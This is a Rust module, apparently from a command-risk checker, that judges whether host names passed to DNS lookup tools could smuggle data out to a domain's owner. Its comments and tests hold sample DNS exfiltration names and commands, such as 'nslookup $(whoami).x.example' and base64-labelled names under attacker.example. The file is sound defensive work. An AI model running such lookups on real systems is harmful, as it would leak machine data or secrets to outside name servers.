//! The positive model of "an ordinary host name an operator looks up", for every low program
//! that sends a name it is given to the network (`dig`, `host`, `nslookup`, `drill`, `whois`,
//! `getent hosts`, `ping`, `traceroute`...). Containment lets UDP out, and a name looked up
//! through the system's resolvers reaches the name's own authoritative server: the labels of
//! `c2VjcmV0cGFzc3dvcmQ.attacker.example` carry data to whoever owns `attacker.example`. A name
//! outside this model is medium: in gVisor, which has no network, it cannot leave.
//!
//! The model: an IP address (parsed as one), or at most [`MAX_LABELS`] labels of at most
//! [`MAX_LABEL`] characters each, [`MAX_NAME`] in all, made of letters, digits and inner
//! hyphens (a leading `_` for service labels such as `_ldap._tcp`), not mixed case, not mostly
//! digits, with no run that looks like encoded data: digit runs of at most [`MAX_DIGITS`], letter-and-digit runs of
//! at most [`MAX_RUN`], not long hexadecimal, not alternating letters and digits, not a long run
//! of letters with almost no vowels. Reverse names (`1.0.0.10.in-addr.arpa`, nibbles under
//! `ip6.arpa`) are addresses written as names.

use std::net::{Ipv4Addr, Ipv6Addr};

use super::Judgement;
use crate::level::RiskLevel;

/// Raises `j` to medium for the first of `names` outside the model.
pub fn raise<'a>(j: &mut Judgement, program: &str, names: impl IntoIterator<Item = &'a str>) {
    let names: Vec<&str> = names.into_iter().collect();
    // A name built from a command's output or a variable (`dig $(hostname).x.example`,
    // `nslookup $(whoami).x.example`) is the machine's own data put in a query: no sandbox's
    // missing network is left to decide it, a human does.
    if let Some(built) = names
        .iter()
        .find(|name| name.contains("__substitution__") || name.contains(['$', '`']))
    {
        j.raise(
            RiskLevel::High,
            format!("{program}: '{built}' is built from a command's output or a variable when the line runs; a looked-up name carries its labels out to the name's DNS servers"),
        );
    }
    if let Some(why) = names.into_iter().find_map(not_ordinary) {
        j.raise(
            RiskLevel::Medium,
            format!("{program}: {why}; a looked-up name reaches its own DNS servers, and its labels can carry data out"),
        );
    }
}

/// Labels in a name (`_ldap._tcp.dc._msdcs.corp.example.com` has 7).
const MAX_LABELS: usize = 8;
/// Characters in one label (`ip-172-31-22-10`, `eu-west-1`, `mycompany-prod-db`).
const MAX_LABEL: usize = 24;
/// Characters in the whole name.
const MAX_NAME: usize = 80;
/// Digits in a row (`01`, `172`, `2024`): more is a number carrying data.
const MAX_DIGITS: usize = 4;
/// Letters and digits in a row between hyphens.
const MAX_RUN: usize = 16;
/// A run of hexadecimal digits holding a digit, at least this long, is data (`deadbeef01`).
const HEX_RUN: usize = 8;
/// A run at least this long needs a vowel in five of its letters (random letters, base32).
const VOWEL_RUN: usize = 10;

/// Why `word`, given to a program as a host name to look up or reach, is not an ordinary one.
pub fn not_ordinary(word: &str) -> Option<String> {
    if address(word) {
        return interface_carries_data(word).then(|| {
            format!("'{word}' is a global IPv6 address whose interface part carries data: its reverse lookup reaches the network's owner")
        });
    }
    let name = word.strip_suffix('.').unwrap_or(word);
    if name.is_empty() {
        // `.` is the root zone, which every resolver knows.
        return (word != ".").then(|| format!("'{word}' is not a host name"));
    }
    if name.len() > MAX_NAME {
        return Some(format!(
            "'{word}' is longer than an ordinary host name ({MAX_NAME} characters)"
        ));
    }
    let labels: Vec<&str> = name.split('.').collect();
    if reverse_name(&labels) {
        return None;
    }
    if labels.len() > MAX_LABELS {
        return Some(format!(
            "'{word}' has more labels than an ordinary host name ({MAX_LABELS})"
        ));
    }
    // Numbers spread over labels (`1234.5678.9012.attacker.example`) carry data as well as one
    // long number: a name that is not an address is mostly letters.
    let digits = name.chars().filter(char::is_ascii_digit).count();
    let alphanumerics = name.chars().filter(char::is_ascii_alphanumeric).count();
    if digits * 2 > alphanumerics {
        return Some(format!("'{word}' is mostly digits but not an address"));
    }
    if let Some(why) = labels.iter().find_map(|label| not_ordinary_label(label)) {
        return Some(format!("'{word}' is not an ordinary host name: {why}"));
    }
    subdomain_label(&labels).map(|label| {
        format!("'{word}' has '{label}' below its domain, which is not a service's name: only the domain's owner reads it")
    })
}

/// Top-level names never delegated on the Internet: a query for one stays with the site's own
/// resolvers, so no stranger's server reads its labels.
const PRIVATE_SUFFIXES: &[&str] = &[
    "local",
    "lan",
    "internal",
    "localdomain",
    "localhost",
    "corp",
    "intranet",
    "private",
    "home",
    "svc",
];

/// Second-level names under a country's domain that are registries of their own (`co.uk`,
/// `com.au`): the registrable domain is one label longer there.
const SECOND_LEVELS: &[&str] = &[
    "co", "com", "net", "org", "gov", "ac", "edu", "ne", "or", "go",
];

/// Words a service's host name is made of below its domain (`www.`, `api.`, `mail.`,
/// `eu-west-1.`, `registry-1.`, `_ldap._tcp.`): a name below someone's domain reaches that
/// someone's name servers, so a label there is low only when it is one of these, a small number
/// or a word of these followed by one (`ns1`, `web01`), never a word of the line's choosing.
const SERVICE_WORDS: &[&str] = &[
    "www",
    "mail",
    "smtp",
    "imap",
    "pop",
    "mx",
    "ns",
    "dns",
    "api",
    "apis",
    "cdn",
    "static",
    "assets",
    "img",
    "images",
    "media",
    "ftp",
    "sftp",
    "vpn",
    "git",
    "gitlab",
    "docs",
    "doc",
    "wiki",
    "blog",
    "shop",
    "store",
    "app",
    "apps",
    "web",
    "portal",
    "login",
    "auth",
    "sso",
    "id",
    "accounts",
    "account",
    "admin",
    "dashboard",
    "console",
    "status",
    "support",
    "help",
    "dev",
    "staging",
    "stage",
    "test",
    "qa",
    "uat",
    "prod",
    "production",
    "beta",
    "alpha",
    "demo",
    "m",
    "mobile",
    "download",
    "downloads",
    "dl",
    "files",
    "repo",
    "repos",
    "registry",
    "packages",
    "pkg",
    "pkgs",
    "mirror",
    "mirrors",
    "deb",
    "rpm",
    "ppa",
    "archive",
    "security",
    "updates",
    "update",
    "ntp",
    "time",
    "pool",
    "proxy",
    "gateway",
    "gw",
    "lb",
    "db",
    "sql",
    "mysql",
    "postgres",
    "redis",
    "cache",
    "search",
    "mq",
    "kafka",
    "monitor",
    "monitoring",
    "metrics",
    "grafana",
    "prometheus",
    "logs",
    "log",
    "ci",
    "jenkins",
    "build",
    "chat",
    "meet",
    "calendar",
    "drive",
    "cloud",
    "storage",
    "backup",
    "backups",
    "office",
    "remote",
    "edge",
    "origin",
    "autodiscover",
    "autoconfig",
    "webmail",
    "dc",
    "ldap",
    "kdc",
    "ad",
    "node",
    "nodes",
    "host",
    "server",
    "srv",
    "k8s",
    "kube",
    "cluster",
    "default",
    "raw",
    "gist",
    "objects",
    "codeload",
    "uploads",
    "pages",
    "management",
    "core",
    "blob",
    "queue",
    "table",
    "file",
    "compute",
    "ec2",
    "s3",
    "rds",
    "elb",
    "sts",
    "iam",
    "dualstack",
    "us",
    "eu",
    "ap",
    "sa",
    "ca",
    "me",
    "af",
    "il",
    "east",
    "west",
    "north",
    "south",
    "central",
    "northeast",
    "southeast",
    "northwest",
    "southwest",
    "global",
    "corp",
    "internal",
    "intranet",
    "vm",
    "ip",
    "lab",
    "infra",
    "ops",
    "selector",
    "dkim",
    "kms",
    "secure",
    "services",
    "service",
    "cpanel",
    "whm",
    "help",
    "ssh",
    "bastion",
    "jump",
    "router",
    "fw",
    "switch",
    "printer",
    "nas",
    "files",
    "share",
    "vault",
    "consul",
    "nomad",
    "ingress",
    "en",
    "de",
    "fr",
    "es",
    "it",
    "nl",
    "jp",
    "cn",
    "uk",
];

/// Service labels (`_ldap._tcp.`, `_dmarc.`, `_domainkey.`): the names SRV, TXT and TLSA
/// records are published under.
const SERVICE_LABELS: &[&str] = &[
    "_tcp",
    "_udp",
    "_tls",
    "_sctp",
    "_dmarc",
    "_domainkey",
    "_acme-challenge",
    "_ldap",
    "_kerberos",
    "_kpasswd",
    "_msdcs",
    "_sites",
    "_gc",
    "_sip",
    "_sips",
    "_xmpp-client",
    "_xmpp-server",
    "_imap",
    "_imaps",
    "_pop3",
    "_pop3s",
    "_submission",
    "_submissions",
    "_caldav",
    "_caldavs",
    "_carddav",
    "_carddavs",
    "_autodiscover",
    "_mta-sts",
    "_smtp",
    "_http",
    "_https",
    "_matrix",
    "_minecraft",
    "_ntp",
    "_vlmcs",
    "_bimi",
    "_25",
    "_443",
];

/// The first label below a public name's registrable domain that is not a service's word
/// ([`SERVICE_WORDS`]), if any. Names under a [`PRIVATE_SUFFIXES`] top-level name, single
/// labels and registrable domains themselves (`example.com`, `example.co.uk`) have none.
fn subdomain_label<'a>(labels: &[&'a str]) -> Option<&'a str> {
    let lower: Vec<String> = labels.iter().map(|l| l.to_ascii_lowercase()).collect();
    let top = lower.last()?;
    if PRIVATE_SUFFIXES.contains(&top.as_str())
        || lower.ends_with(&["home".to_owned(), "arpa".to_owned()])
    {
        return None;
    }
    let domain = match lower.as_slice() {
        [.., second, country] if country.len() == 2 && SECOND_LEVELS.contains(&second.as_str()) => {
            3
        }
        _ => 2,
    };
    let below = labels.len().saturating_sub(domain);
    labels[..below]
        .iter()
        .copied()
        .find(|label| !service_label(&label.to_ascii_lowercase()))
}

/// Whether a label below a domain names a service: a service label, or hyphen-separated parts
/// each a service word, a number of at most three digits (`us-east-1`, `10.0.0.1.nip.io`) or a
/// service word followed by at most three digits and a letter (`ns1`, `web01`, `vm01a`).
fn service_label(label: &str) -> bool {
    if label.starts_with('_') {
        return SERVICE_LABELS.contains(&label);
    }
    label.split('-').all(|part| {
        if SERVICE_WORDS.contains(&part) {
            return true;
        }
        let letters = part
            .find(|c: char| c.is_ascii_digit())
            .unwrap_or(part.len());
        let (word, rest) = part.split_at(letters);
        let digits = rest.chars().take_while(char::is_ascii_digit).count();
        let suffix = &rest[digits..];
        (1..=3).contains(&digits)
            && (word.is_empty() || SERVICE_WORDS.contains(&word))
            && (suffix.is_empty() || (suffix.len() == 1 && !word.is_empty()))
    })
}

/// An IPv4 or IPv6 address (an IPv6 one may carry a zone, `fe80::1%eth0`).
fn address(word: &str) -> bool {
    if word.parse::<Ipv4Addr>().is_ok() {
        return true;
    }
    let (ip, zone) = word.split_once('%').unwrap_or((word, "lo"));
    ip.parse::<Ipv6Addr>().is_ok()
        && !zone.is_empty()
        && zone.len() <= 15
        && zone.chars().all(|c| c.is_ascii_alphanumeric())
}

/// Whether `word` is a global IPv6 address (`2000::/3`) with any of bits 64 to 111 set: a
/// program that looks its name up (`dig -x`, `host ADDR`, `ping` and `traceroute` naming the
/// replies) asks the reverse zone of the network, whose owner reads the interface part. An
/// address whose interface part is its last 16 bits (`2001:4860:4860::8888`) carries no more
/// than an IPv4 address's last octet does.
fn interface_carries_data(word: &str) -> bool {
    let ip = word.split_once('%').map_or(word, |(ip, _)| ip);
    ip.parse::<Ipv6Addr>().is_ok_and(|ip| {
        let segments = ip.segments();
        segments[0] & 0xe000 == 0x2000 && segments[4..7].iter().any(|s| *s != 0)
    })
}

/// `D.C.B.A.in-addr.arpa` (up to four octets) or `N.N…ip6.arpa` (up to 32 nibbles; a global
/// address's interface part, but for its last 16 bits, zero as in [`interface_carries_data`]).
fn reverse_name(labels: &[&str]) -> bool {
    let lower: Vec<String> = labels.iter().map(|l| l.to_ascii_lowercase()).collect();
    match lower.as_slice() {
        [octets @ .., zone, arpa] if zone == "in-addr" && arpa == "arpa" => {
            octets.len() <= 4 && octets.iter().all(|o| o.parse::<u8>().is_ok())
        }
        [nibbles @ .., zone, arpa] if zone == "ip6" && arpa == "arpa" => {
            let hex = nibbles.len() <= 32
                && nibbles
                    .iter()
                    .all(|n| n.len() == 1 && n.chars().all(|c| c.is_ascii_hexdigit()));
            // Written last nibble first: the address's nibble `i` is `forward[i]`.
            let forward: Vec<&String> = nibbles.iter().rev().collect();
            let global = forward
                .first()
                .is_some_and(|n| matches!(n.as_str(), "2" | "3"));
            let interface = forward.iter().skip(16).take(12).any(|n| *n != "0");
            hex && !(global && interface)
        }
        _ => false,
    }
}

fn not_ordinary_label(label: &str) -> Option<String> {
    if label.is_empty() {
        return Some("an empty label".to_owned());
    }
    if label.len() > MAX_LABEL {
        return Some(format!("a label longer than {MAX_LABEL} characters"));
    }
    let body = label.strip_prefix('_').unwrap_or(label);
    if body.is_empty() || !body.chars().all(|c| c.is_ascii_alphanumeric() || c == '-') {
        return Some(format!(
            "'{label}' holds characters other than letters, digits and hyphens"
        ));
    }
    if body.starts_with('-') || body.ends_with('-') {
        return Some(format!("'{label}' starts or ends with a hyphen"));
    }
    // DNS keeps the case of a query as sent: `aGVsbG8` is base64. An ordinary label is
    // lower case, upper case, or capitalised.
    let tail = &body[1..];
    if tail.chars().any(|c| c.is_ascii_uppercase()) && tail.chars().any(|c| c.is_ascii_lowercase())
    {
        return Some(format!("'{label}' mixes upper and lower case"));
    }
    let lower = body.to_ascii_lowercase();
    lower.split('-').find_map(|run| data_like(run, label))
}

/// Why one hyphen-separated run of a label looks like encoded data.
fn data_like(run: &str, label: &str) -> Option<String> {
    let digits = run.chars().filter(char::is_ascii_digit).count();
    if digits == run.len() {
        return (run.len() > MAX_DIGITS)
            .then(|| format!("'{label}' holds a number of more than {MAX_DIGITS} digits"));
    }
    if run.len() > MAX_RUN {
        return Some(format!(
            "'{label}' holds a run of more than {MAX_RUN} letters and digits"
        ));
    }
    if digits > 0 && run.len() >= HEX_RUN && run.chars().all(|c| c.is_ascii_hexdigit()) {
        return Some(format!("'{label}' looks like hexadecimal data"));
    }
    // A digit run longer than MAX_DIGITS inside a name (`db123456`).
    let mut longest = 0;
    let mut current = 0;
    let mut switches = 0;
    let mut previous: Option<bool> = None;
    for c in run.chars() {
        let digit = c.is_ascii_digit();
        current = if digit { current + 1 } else { 0 };
        longest = longest.max(current);
        if previous.is_some_and(|p| p != digit) {
            switches += 1;
        }
        previous = Some(digit);
    }
    if longest > MAX_DIGITS {
        return Some(format!(
            "'{label}' holds a number of more than {MAX_DIGITS} digits"
        ));
    }
    // `web01`, `vm01a`, `x86` switch once or twice; base32 and base64 (`c2vjcmv0`) keep
    // switching.
    if switches > 2 {
        return Some(format!(
            "'{label}' alternates letters and digits like encoded data"
        ));
    }
    if run.len() >= VOWEL_RUN {
        let vowels = run.chars().filter(|c| "aeiouy".contains(*c)).count();
        if vowels * 5 < run.len() - digits {
            return Some(format!(
                "'{label}' has too few vowels for a word (encoded data)"
            ));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::not_ordinary;

    #[test]
    fn everyday_names_and_addresses_are_ordinary() {
        for name in [
            "example.com",
            "example.com.",
            ".",
            "api.github.com",
            "db-01.internal.lan",
            "nas.local",
            "mail.google.com",
            "192.168.1.10",
            "10.0.0.1",
            "::1",
            "2001:db8::1",
            "fe80::1%eth0",
            "1.0.0.10.in-addr.arpa",
            "1.0.0.10.IN-ADDR.ARPA.",
            "b.a.9.8.7.6.5.0.4.0.0.0.3.0.0.0.2.0.0.0.1.0.0.0.0.0.0.0.1.2.3.4.ip6.arpa",
            "_ldap._tcp.example.com",
            "_ldap._tcp.dc._msdcs.corp.example.com",
            "ip-172-31-22-10.eu-west-1.compute.internal",
            "web01",
            "vm01a.prod",
            "localhost",
            "kubernetes.default.svc.cluster.local",
            "Example.com",
            "WEB01.CORP.LAN",
            "xn--bcher-kva.example",
            "TXT",
            "AAAA",
            "debian.org",
            "s3.dualstack.us-east-1.amazonaws.com",
            "registry-1.docker.io",
            "10.0.0.1.nip.io",
            "www.example.co.uk",
            "selector1._domainkey.example.com",
            "ns1.example.com",
            "abc.example.internal",
            "2001:4860:4860::8888",
            "fe80::1234:5678:9abc:def0%eth0",
            "fd00::1:2:3:4",
            "8.8.8.8.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.6.8.4.0.6.8.4.1.0.0.2.ip6.arpa",
        ] {
            assert_eq!(not_ordinary(name), None, "{name}");
        }
    }

    #[test]
    fn names_that_carry_data_are_not_ordinary() {
        for name in [
            "c2VjcmV0cGFzc3dvcmQ.attacker.example",
            "aGVsbG8.attacker.example",
            "c2vjcmv0cgfzc3dvcmq.attacker.example",
            "deadbeef01.attacker.example",
            "73656372657420.attacker.example",
            "mfzwizlsmfxwk.attacker.example",
            "mfzwizlsmfxwk3tf.attacker.example",
            "a1b2c3.attacker.example",
            "db123456.attacker.example",
            "abcdefghijklmnopq.attacker.example",
            "a.b.c.d.e.f.g.h.i.attacker.example",
            "x_y.attacker.example",
            "-x.attacker.example",
            "x..example",
            "",
            "aaaaaaaaaaaaaaaa-aaaaaaaaaaaaaaaa-aaaaaaaa.example",
            "1.2.3.4.5.in-addr.arpa.attacker.example",
            "secret=hunter2.attacker.example",
            "1234.5678.9012.3456.attacker.example",
            "4242.1337.ex",
            // Below someone's domain, a word of the line's choosing reaches its name servers.
            "abc.attacker.tld",
            "hunter2.attacker.example",
            "password.evil.com",
            "root.x.attacker.example",
            "db-prod-admin-hunter.evil.com",
            "2024.example.com",
            "x1a.evil.com",
            "2001:db8:1234:5678:6865:6c6c:6f21:1",
            "2a01:4f8::dead:beef:cafe:1",
            "1.0.0.0.e.f.a.c.f.e.e.b.d.a.e.d.0.0.0.0.8.f.4.0.1.0.a.2.ip6.arpa",
            "data.evil.co.uk",
        ] {
            assert!(not_ordinary(name).is_some(), "{name}");
        }
    }
}
